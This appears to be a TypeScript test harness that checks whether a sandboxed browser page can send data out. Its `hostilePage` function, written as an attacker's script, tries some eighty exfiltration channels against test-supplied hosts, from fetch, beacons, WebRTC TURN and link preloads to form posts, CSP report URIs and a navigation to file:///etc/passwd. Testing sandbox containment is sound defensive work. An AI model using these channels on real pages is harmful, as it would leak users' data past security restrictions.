/** Where one way out is aimed: hosts with or without a port, so that whoever listens can tell the ways apart. */
export interface Aim {
  /** In an `http` address; the last one is an address in numbers. */
  readonly hosts: readonly string[];
  /** Address and port in numbers, for what speaks no HTTP. */
  readonly address: string;
  readonly port: number;
}

/** Whether a browser that nobody restrained puts something on the network for it; `asks`: it asks a person, or has nothing to send. */
export type Expected = 'sends' | 'asks';

/** Each way out that `hostilePage` tries, by name. */
const staying: Readonly<Record<string, Expected>> = {
  'fetch': 'sends', 'fetch-no-cors': 'sends', 'fetch-keepalive': 'sends', 'fetch-later': 'asks', 'xhr': 'sends', 'beacon': 'sends', 'event-source': 'sends', 'web-socket': 'sends', 'web-transport': 'sends',
  'image': 'sends', 'input-image': 'sends', 'svg-image': 'sends', 'audio': 'sends', 'video-poster': 'sends', 'track': 'asks', 'font': 'sends', 'css-url': 'sends', 'css-import': 'sends', 'stylesheet': 'sends',
  'icon': 'asks', 'manifest': 'asks', 'script': 'sends', 'module-import': 'sends', 'iframe': 'sends', 'iframe-srcdoc': 'sends', 'object': 'sends', 'embed': 'sends', 'worker-import': 'sends', 'shared-worker-import': 'sends', 'service-worker': 'asks',
  'dns-prefetch': 'sends', 'preconnect': 'sends', 'prefetch': 'sends', 'preload': 'sends', 'module-preload': 'sends', 'speculation-rules': 'sends', 'ping': 'sends',
  'rtc-stun': 'sends', 'rtc-turn-udp': 'sends', 'rtc-turn-tcp': 'sends', 'rtc-turn-tls': 'sends', 'rtc-data-channel': 'sends', 'rtc-ice-tcp': 'sends', 'attribution': 'asks',
  'federated-sign-in': 'asks', 'passkey-elsewhere': 'asks', 'payment': 'asks', 'presentation': 'asks', 'model-download': 'asks', 'protected-media': 'asks', 'geolocation': 'asks', 'camera': 'asks', 'screen-capture': 'asks',
  'notification': 'asks', 'clipboard-read': 'asks', 'clipboard-write': 'asks', 'midi': 'asks', 'usb': 'asks', 'bluetooth': 'asks', 'serial': 'asks', 'hid': 'asks', 'idle-detection': 'asks', 'local-fonts': 'asks', 'speech': 'asks', 'folder-picker': 'asks', 'protocol-handler': 'asks',
};
/** Tried by a second call, because one of them may end the page. */
const leaving: Readonly<Record<string, Expected>> = {
  'csp-report': 'asks', 'form-post': 'sends', 'form-new-window': 'sends', 'window-open': 'sends', 'anchor-new-window': 'sends', 'download-link': 'sends', 'download-blob': 'asks', 'anchor-click': 'sends', 'location': 'sends', 'location-data': 'asks', 'location-file': 'asks', 'location-mail': 'asks', 'history': 'asks', 'meta-refresh': 'sends',
};
export const waysOut: Readonly<Record<string, Expected>> = { ...staying, ...leaving };

/** Tries them all by whatever runs `hostilePage` in a page, with a person's gesture before each half. */
export const tryEveryWay = async (aims: Readonly<Record<string, Aim>>, inPage: (aims: Readonly<Record<string, Aim>>) => Promise<unknown>): Promise<Readonly<Record<string, string>>> => {
  const halfOf = (names: Readonly<Record<string, Expected>>): Readonly<Record<string, Aim>> => Object.fromEntries(Object.entries(aims).filter(([name]) => Object.hasOwn(names, name)));
  const first = await inPage(halfOf(staying));
  return Object.assign({}, first, await inPage(halfOf(leaving)));
};

/**
 * Runs in a page as a script of an attacker would who got past every check of markup: tries each way out at its aim and answers what the
 * page saw of it. It must stand alone, because its text is what is sent to the page.
 */
export const hostilePage = async (aims: Readonly<Record<string, Aim>>): Promise<Record<string, string>> => {
  const seen: Record<string, string> = {};
  const any = globalThis as unknown as Record<string, never> & { readonly navigator: Record<string, never> };
  const nav = navigator as unknown as Record<string, Record<string, (...args: unknown[]) => Promise<unknown>>>;
  const add = (name: string, set: Readonly<Record<string, unknown>>, into: ParentNode = document.body): HTMLElement => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(set)) {
      if (key in element) (element as unknown as Record<string, unknown>)[key] = value;
      else element.setAttribute(key, String(value));
    }
    into.append(element);
    return element;
  };
  const pause = (ms: number): Promise<void> => new Promise((done) => { setTimeout(done, ms); });
  const settled = (thing: unknown, ok: string, bad: string): Promise<string> =>
    new Promise((yes) => Object.assign(thing as object, { [ok]: () => { yes('open'); }, [bad]: () => { yes('blocked'); } }));
  const link = (rel: string, more: Readonly<Record<string, unknown>> = {}) => (url: string): unknown => {
    const element = document.createElement('link');
    Object.assign(element, { rel, href: url, ...more });
    document.head.append(element);
    return settled(element, 'onload', 'onerror');
  };
  const blobOf = (text: string, type = 'text/javascript'): string => URL.createObjectURL(new Blob([text], { type }));
  const peer = async (servers: readonly unknown[]): Promise<unknown> => {
    const connection = new RTCPeerConnection({ iceServers: servers as RTCIceServer[] });
    connection.createDataChannel('x');
    let found = 0;
    connection.onicecandidate = ({ candidate }) => { if (candidate !== null && candidate.candidate !== '') found += 1; };
    await connection.setLocalDescription(await connection.createOffer());
    await pause(600);
    return `${String(found)} own addresses`;
  };
  /** A peer that says it may be reached at the aim, so that ours knocks there itself. */
  const knock = (protocol: 'udp' | 'tcp') => async (_url: string, { address, port }: Aim): Promise<unknown> => {
    const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
    here.createDataChannel('x');
    await here.setLocalDescription(await here.createOffer());
    await there.setRemoteDescription(here.localDescription!);
    await there.setLocalDescription(await there.createAnswer());
    await here.setRemoteDescription(there.localDescription!);
    const candidate = `candidate:1 1 ${protocol} 2130706431 ${address} ${String(port)} typ host${protocol === 'tcp' ? ' tcptype passive' : ''}`;
    await here.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
    return 'started';
  };
  const form = (target: string) => (url: string): void => {
    const element = add('form', { action: url, method: 'post', target }) as HTMLFormElement;
    add('input', { name: 'record', value: 'Asha Haddad' }, element);
    element.submit();
  };
  const click = (set: Readonly<Record<string, unknown>>) => (url: string): void => { add('a', { href: url, textContent: 'x', ...set }).click(); };
  const ask = (name: string, method: string, ...args: unknown[]) => (): unknown => nav[name]![method]!(...args);
  const secure = (url: string): string => url.replace('http', 'https');

  const ways: Record<string, (url: string, aim: Aim) => unknown> = {
    'fetch': (url) => fetch(url).then(() => 'open'),
    'fetch-no-cors': (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'Asha Haddad' }).then(() => 'open'),
    'fetch-keepalive': (url) => fetch(url, { mode: 'no-cors', keepalive: true }).then(() => 'open'),
    'fetch-later': (url) => (any['fetchLater'] as unknown as (url: string, how: unknown) => unknown)(secure(url), { activateAfter: 0 }) && 'started',
    'xhr': (url) => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); return settled(request, 'onload', 'onerror'); },
    'beacon': (url) => (navigator.sendBeacon(url, 'Asha Haddad') ? 'queued' : 'blocked'),
    'event-source': (url) => settled(new EventSource(url), 'onopen', 'onerror'),
    'web-socket': (url) => settled(new WebSocket(url.replace('http', 'ws')), 'onopen', 'onerror'),
    'web-transport': (url) => new WebTransport(secure(url)).ready.then(() => 'open'),
    'image': (url) => settled(add('img', { src: `${url}x.png` }), 'onload', 'onerror'),
    'input-image': (url) => settled(add('input', { type: 'image', src: `${url}x.png` }), 'onload', 'onerror'),
    'svg-image': (url) => {
      const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
      const image = svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'image'));
      image.setAttribute('href', `${url}x.png`);
      return settled(image, 'onload', 'onerror');
    },
    'audio': (url) => settled(add('audio', { src: `${url}x.ogg`, preload: 'auto' }), 'oncanplay', 'onerror'),
    'video-poster': (url) => { add('video', { poster: `${url}x.png` }); },
    'track': (url) => { const video = add('video', { src: blobOf('', 'video/webm') }); (add('track', { src: url, default: true, kind: 'captions' }, video) as HTMLTrackElement).track.mode = 'showing'; },
    'font': (url) => new FontFace('x', `url(${url}x.woff2)`).load().then(() => 'open'),
    'css-url': (url) => { add('div', { textContent: 'x' }).style.backgroundImage = `url(${url}x.png)`; },
    'css-import': (url) => { add('style', { textContent: `@import url(${url}x.css);` }, document.head); },
    'stylesheet': link('stylesheet'), 'icon': link('icon'), 'manifest': link('manifest'),
    'script': (url) => settled(add('script', { src: url }), 'onload', 'onerror'),
    'module-import': (url) => import(/* @vite-ignore */ url).then(() => 'open'),
    'iframe': (url) => { add('iframe', { src: url }); },
    'iframe-srcdoc': (url) => { add('iframe', { srcdoc: `<img src="${url}x.png">` }); },
    'object': (url) => { add('object', { data: url, type: 'text/html' }); },
    'embed': (url) => { add('embed', { src: url, type: 'text/html' }); },
    'worker-import': (url) => settled(new Worker(blobOf(`importScripts(${JSON.stringify(url)})`)), 'onmessage', 'onerror'),
    'shared-worker-import': (url) => settled(new SharedWorker(blobOf(`importScripts(${JSON.stringify(url)})`)), 'onmessage', 'onerror'),
    'service-worker': () => navigator.serviceWorker.register('/assets/sw.js').then(() => 'open'),
    'dns-prefetch': link('dns-prefetch'), 'preconnect': link('preconnect'), 'prefetch': link('prefetch'), 'preload': link('preload', { as: 'image' }), 'module-preload': link('modulepreload'),
    'speculation-rules': (url) => { add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [secure(url)], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [`${location.origin}/index.html`] }] }) }, document.head); },
    'ping': (url) => { click({ ping: url })('#x'); },
    'rtc-stun': (_url, { address, port }) => peer([{ urls: `stun:${address}:${String(port)}` }]),
    'rtc-turn-udp': (_url, { address, port }) => peer([{ urls: `turn:${address}:${String(port)}?transport=udp`, username: 'a', credential: 'b' }]),
    'rtc-turn-tcp': (_url, { address, port }) => peer([{ urls: `turn:${address}:${String(port)}?transport=tcp`, username: 'a', credential: 'b' }]),
    'rtc-turn-tls': (_url, { address, port }) => peer([{ urls: `turns:${address}:${String(port)}?transport=tcp`, username: 'a', credential: 'b' }]),
    'rtc-data-channel': knock('udp'), 'rtc-ice-tcp': knock('tcp'),
    'attribution': (url) => { add('img', { attributionsrc: url }); },
    'federated-sign-in': (url) => ask('credentials', 'get', { identity: { providers: [{ configURL: `${secure(url)}fedcm.json`, clientId: 'x' }] } })(),
    'passkey-elsewhere': (url) => ask('credentials', 'get', { publicKey: { challenge: new Uint8Array(16), rpId: new URL(url).hostname } })(),
    'payment': (url) => new PaymentRequest([{ supportedMethods: `${secure(url)}pay` }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
    'presentation': (url) => new (any['PresentationRequest'] as unknown as new (urls: readonly string[]) => { getAvailability: () => Promise<{ readonly value: boolean }> })([secure(url)]).getAvailability().then(({ value }) => (value ? 'open' : 'blocked')),
    'model-download': () => (any['Translator'] as unknown as { create: (how: unknown) => unknown }).create({ sourceLanguage: 'en', targetLanguage: 'fr' }),
    'protected-media': () => navigator.requestMediaKeySystemAccess('com.widevine.alpha', [{ initDataTypes: ['cenc'], videoCapabilities: [{ contentType: 'video/mp4; codecs="avc1.42E01E"' }] }]),
    'geolocation': () => new Promise((yes, no) => { navigator.geolocation.getCurrentPosition(yes, no); }),
    'camera': () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }), 'screen-capture': () => navigator.mediaDevices.getDisplayMedia(),
    'notification': async () => ((await Notification.requestPermission()) === 'granted' ? 'open' : 'blocked'),
    'clipboard-read': () => navigator.clipboard.readText(), 'clipboard-write': () => navigator.clipboard.writeText('Asha Haddad'),
    'midi': () => navigator.requestMIDIAccess(), 'usb': ask('usb', 'requestDevice', { filters: [] }), 'bluetooth': ask('bluetooth', 'requestDevice', { acceptAllDevices: true }),
    'serial': ask('serial', 'requestPort'), 'hid': ask('hid', 'requestDevice', { filters: [] }),
    'idle-detection': async () => ((await (any['IdleDetector'] as unknown as { requestPermission: () => Promise<string> }).requestPermission()) === 'granted' ? 'open' : 'blocked'),
    'local-fonts': async () => ((await (any['queryLocalFonts'] as unknown as () => Promise<readonly unknown[]>)()).length > 0 ? 'open' : 'blocked'),
    'speech': () => { const speech = new (any['webkitSpeechRecognition'] as unknown as new () => { start: () => void })(); speech.start(); return settled(speech, 'onstart', 'onerror'); },
    'folder-picker': () => (any['showDirectoryPicker'] as unknown as () => unknown)(),
    'protocol-handler': (url) => { navigator.registerProtocolHandler('web+record', `${url}?%s`); },
  };
  // One by one: the next one ends what the last one began.
  const leaving: Record<string, (url: string, aim: Aim) => unknown> = {
    'csp-report': (url) => {
      add('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${url}; report-to x` }, document.head);
      add('img', { src: '/x.png' });
    },
    'window-open': (url) => (window.open(url) === null ? 'blocked' : 'open'), 'form-post': form(''), 'form-new-window': form('_blank'), 'anchor-new-window': click({ target: '_blank', rel: 'noopener' }),
    'download-link': click({ download: 'record.txt' }), 'download-blob': () => { click({ download: 'record.txt' })(blobOf('Asha Haddad', 'text/plain')); },
    'anchor-click': click({}), 'location': (url) => { location.assign(url); }, 'location-data': () => { location.assign('data:text/html,x'); },
    'location-file': () => { location.assign('file:///etc/passwd'); }, 'location-mail': () => { add('iframe', { src: 'mailto:x@canary.test' }); },
    'history': (url) => { history.pushState(null, '', url); }, 'meta-refresh': (url) => { add('meta', { httpEquiv: 'refresh', content: `0;url=${url}` }, document.head); },
  };

  const attempt = async (name: string, act: (url: string, aim: Aim) => unknown): Promise<void> => {
    const aim = aims[name];
    if (aim === undefined) return;
    for (const host of aim.hosts) {
      try {
        const outcome = await Promise.race([act(`http://${host}/`, aim), pause(2_500).then(() => 'no answer')]);
        seen[name] = typeof outcome === 'string' ? outcome : outcome === undefined ? 'done' : 'open';
      } catch (why) {
        seen[name] = `refused: ${(why as Error).name}`;
      }
    }
  };
  await Promise.all(Object.entries(ways).map(([name, act]) => attempt(name, act)));
  for (const [name, act] of Object.entries(leaving)) {
    if (aims[name] === undefined) continue;
    await attempt(name, act);
    await pause(150);
  }
  return seen;
};
